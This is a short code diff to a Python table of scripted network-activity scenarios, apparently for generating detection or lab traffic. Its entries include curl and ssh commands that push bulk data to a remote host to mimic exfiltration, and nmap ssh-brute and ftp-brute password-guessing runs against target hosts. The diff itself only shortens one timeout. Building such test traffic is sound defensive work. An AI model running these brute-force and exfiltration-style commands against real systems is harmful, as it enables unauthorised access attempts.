@@ -401,7 +401,7 @@ CAPTURES = {
     "carry-web": (40, [f"sh -c 'head -c {size}000000 /dev/zero | curl -s -m 30 -T - http://{F}:443/up'" for size in (30, 80, 150)]),
     "carry-ssh": (40, [f"sh -c 'head -c {size}000000 /dev/zero | ssh -i KEY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{F} \"cat >/dev/null\"'" for size in (25, 60, 120)]),
     "carry-names": (45, [mine("carry_by_names", F, 900)]),
-    "guess-ssh-nmap": (60, [f"nmap -n -Pn -p22 --script ssh-brute --script-args userdb={LIST},passdb={LIST} {S}"]),
+    "guess-ssh-nmap": (12, [f"nmap -n -Pn -p22 --script ssh-brute --script-args userdb={LIST},passdb={LIST} {S}"]),
     "guess-ftp-nmap": (45, [f"nmap -n -Pn -p21 --script ftp-brute --script-args userdb={LIST},passdb={LIST} {W}"]),
     "guess-ssh-seldom": (110, [mine("guess_ssh", W, 7, 30, 1)]),
     "guess-ssh-around": (60, [mine("guess_ssh", f"10.77.0.{last}", 0.1, 3, 2) for last in range(30, 48)]),
